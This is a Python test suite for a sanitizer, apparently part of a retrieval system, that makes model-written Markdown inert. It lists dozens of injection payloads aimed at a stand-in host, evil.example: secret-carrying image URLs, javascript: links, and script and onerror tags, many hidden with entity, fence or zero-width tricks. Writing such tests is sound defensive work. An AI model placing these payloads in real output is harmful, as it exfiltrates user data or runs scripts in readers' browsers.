"""Nothing in a model's Markdown may load, link or pass for a part of the page, in any way of writing it."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from rag.inert import inert, visible

MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
LOADS_OR_LINKS = {"link_open", "image", "html_inline", "html_block"}
# What remark-gfm makes a link of although no link syntax is there; it looks at text after entities are decoded.
BECOMES_A_LINK = re.compile(r"(https?://|www(?=\.))[-.\w]+|[-.\w+]+@[-\w]+(\.[-\w]+)+", re.IGNORECASE)

ATTACKS = {
    "image": "![x](https://evil.example/a.png?q=SECRET)",
    "image in image": "![![x](https://evil.example/a)](https://evil.example/b)",
    "image with a title": '![x](<https://evil.example/a b> "title")',
    "image over two lines": "![x\ny](\nhttps://evil.example/a)",
    "image by reference": "![x][r]\n\n[r]: https://evil.example/a",
    "reference first": "[r]: <https://evil.example/a> 'title'\n\n![r]",
    "reference over lines": "[r\ns]:\nhttps://evil.example/a\n\n[r s]",
    "reference in a list": "- [r]: https://evil.example/a\n\n[r][] and [r]",
    "reference in a quote": "> [r]: https://evil.example/a\n\n[r]",
    "reference with an escape": "[r\\]s]: https://evil.example/a\n\n[r\\]s]",
    "number as reference": "[1]: https://evil.example/a\n\nWell said [1]",
    "link": "[click](https://evil.example)",
    "link with brackets": "[a [b] c](https://evil.example/(x)(y))",
    "link with code": "[a `b` c](https://evil.example)",
    "link with emphasis": "[**a**](https://evil.example)",
    "script link": "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>)",
    "autolink": "<https://evil.example> <javascript:alert(1)> <mailto:a@evil.example>",
    "bare address": "see https://evil.example/a, http://evil.example and www.evil.example.",
    "bare address with escapes": "https\\://evil.example http:\\/\\/evil.example www\\.evil.example",
    "bare address with entities": "http&#58;//evil.example www&period;evil.example a&commat;evil.example",
    "mail": "a@evil.example and a\\@evil.example",
    "angled mail": "<a@evil.example>, <<b@evil.example>>, `<c@evil.example>, \\\\<d@evil.example>`<e@evil.example>",
    "mail behind mail": "a@b.example+a@evil.example",
    "img tag": "<img src=https://evil.example/a onerror=alert(1)>",
    "script tag": "<script>fetch('//evil.example')</script>",
    "upper case tag": "<IMG SRC='//evil.example'><SVG/ONLOAD=alert(1)>",
    "comment": "<!-- hidden --> <!DOCTYPE x> <?php ?> <![CDATA[x]]>",
    "tag over lines": "<img\nsrc=//evil.example>",
    "iframe in a list": "- <iframe src=//evil.example></iframe>",
    "style": "<style>body{background:url(//evil.example)}</style>",
    "code that is none": "\\`![x](https://evil.example)\\`",
    "code over a paragraph": "`a\n\n![x](https://evil.example) `",
    "code over two lines": "a ` b\nc ` ![x](https://evil.example) ` d",
    "code in cells": "| a | b |\n|---|---|\n| ` | ![x](https://evil.example) ` |",
    "code after a tag": '<a href="`">![x](https://evil.example)`',
    "code after an address": "http://a.example/`x ![y](https://evil.example) `",
    "code with a late escape": "![\\](u)` a\n` ![x](https://evil.example) `",
    "entity as backslash": "&#92;` ![x](https://evil.example) `",
    "fence in a quote": "> ```\n\n![x](https://evil.example)",
    "fence in a list": "- a\n  ```\n![x](https://evil.example)",
    "fence closed by another": "~~~\n```\n~~~\n![x](https://evil.example)\n```",
    "fence with backticks behind": "``` a`b\n![x](https://evil.example)\n```",
    "fence laid bare": "![](u)~~~\n```\n~~~\n![x](https://evil.example)\n```",
    "fence too short": "````\n```\n![x](https://evil.example)\n````\n![y](https://evil.example)",
    "fence never closed": "```\n![x](https://evil.example)",
    "indented": "    a\n![x](https://evil.example)",
    "rule": "a\n---\n![x](https://evil.example)",
    "definition around code": "[a ```]: ```\nhttps://evil.example\n\n[a ```]",
    "address behind a mail": "+@https://evil.example",
    "footnote": "[^a]: [b]: https://evil.example\n\n[b]",
    "windows lines": "`a\r\n\r\n![x](https://evil.example) `",
    "old lines": "```\ra\r```\r![x](https://evil.example)",
    "odd lines": "`a\u2028\u2028![x](https://evil.example) `",
    "nul": "!\x00[x](https://evil.example)",
    "zero width": "!\u200b[x]\u200b(https://evil.example)",
}
SYNTAX = st.lists(
    st.sampled_from([*"`\\[]()!<>:|~-*_&#;$\n\t 1.ax@/", "```", "~~~", "](", "]:", "![", "www.a.b", "|-|-|\n", "\n\n"]),
    max_size=30,
).map("".join)
WITH_ATTACKS = st.lists(SYNTAX | st.sampled_from(list(ATTACKS.values())), max_size=6).map("".join)


def tokens(markdown: str) -> list[Token]:
    found: list[Token] = []
    for token in MARKDOWN.parse(markdown):
        found += [token, *(token.children or ())]
    return found


def text_runs(markdown: str) -> list[str]:
    """Neighbouring text joined, as a renderer sees it when it looks for addresses."""
    kinds = [(token.content if token.type == "text" else "\0") for token in tokens(markdown) if token.type != "inline"]
    return "".join(kinds).split("\0")


def assert_harmless(markdown: str) -> None:
    kinds = {token.type for token in tokens(markdown)}
    assert not kinds & LOADS_OR_LINKS, markdown
    assert not [run for run in text_runs(markdown) if BECOMES_A_LINK.search(run)], markdown


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_attack(attack: str):
    assert_harmless(inert(attack))
    assert_harmless(inert(f"Some words.\n\n{attack}\n\nMore words."))


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_attack_half_streamed(attack: str):
    for end in range(len(attack)):
        assert_harmless(inert(attack[:end]))


@given(WITH_ATTACKS)
@settings(max_examples=300, deadline=None)
@example("a|b\n-|-\n`|![x](u)`")
@example("www.a@b")
def test_any_text_is_harmless_and_stays_so(markdown: str):
    once = inert(markdown)
    assert_harmless(once)
    assert inert(once) == once
    drawn = inert(markdown, escape_dollars=True)
    assert inert(drawn, escape_dollars=True) == drawn
    assert_harmless(drawn)
    plain = "".join(token.content for token in tokens(drawn) if token.type == "text")
    assert drawn.count("$") >= plain.count("$")


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("![a chart](http://e.example/x.png) shows", "a chart shows"),
        ("[the guide](http://e.example/x)", "the guide (`http://e.example/x`)"),
        ("<b>bold</b> and a < b", "< b>bold< /b> and a < b"),
        ("Write to me@x.example.", "Write to `me@x.example`."),
        ("From: Jens P. <jens.p@x.example>, you", "From: Jens P. `<jens.p@x.example>`, you"),
        ("See <https://x.example/a?b=1>.", "See `<https://x.example/a?b=1>`."),
        (r"Not \<me@x.example>", r"Not \< `me@x.example`>"),
        ("`a|b` and ``c`` and ` d", "`a|b` and ``c`` and \\` d"),
        ("- do\n  ```python\n  x[1](y)\n  ```", "- do\n```python\nx[1](y)\n```"),
        ("```mermaid\nclick A\n```", "```\nclick A\n```"),
        ("[1]: yes", "[1] : yes"),
        ("As [1]: yes", "As [1]: yes"),
        (":red[alarm]", "\\:red[alarm]"),
        ("AT&T &amp; &#58;", "AT&T &amp; &amp;#58;"),
        ("It costs $5.", "It costs $5."),
        ("pay\u202egro.live\U000e0041", "paygro.live"),
    ],
)
def test_what_it_reads_like(markdown: str, expected: str):
    assert inert(markdown) == expected


@pytest.mark.parametrize(
    "markdown",
    [
        "# Title\n\nThe notice period is **three months** [1][2].\n\n1. one [1]\n2. two `x[1](y)` [2]",
        "| a | b |\n|---|---|\n| 1 | 2 [1] |",
        "```python\nif a < b:\n    print('![x](u)')\n```",
        "$a < b$, 5 * 3, a_b, ~~gone~~, > 4, [ ] open, (see 2), 12:30, foo::bar",
        "می‌خواهم 👨‍👩‍👧",
    ],
)
def test_ordinary_markdown_stays(markdown: str):
    assert inert(markdown) == markdown


def test_dollars_are_escaped_outside_code_only():
    assert inert("$5, \\$6, `$7`\n```\n$8\n```", escape_dollars=True) == "\\$5, \\$6, `$7`\n```\n$8\n```"


def test_visible_keeps_what_scripts_need():
    assert visible("a\u200cb\u200d \ufe0f é\r\nx\x1b[31m") == "a\u200cb\u200d \ufe0f é\nx[31m"


UNITS = ["`", "``a", "[", "](", "![", "\\", "(", "a@", "<a@b.c", "www.", "]:", "<", "&#", "|-", "a", "- "]


@pytest.mark.parametrize("unit", UNITS)
def test_takes_linear_time(unit: str):
    start = time.process_time()
    inert(unit * (200_000 // len(unit)))
    assert time.process_time() - start < 10
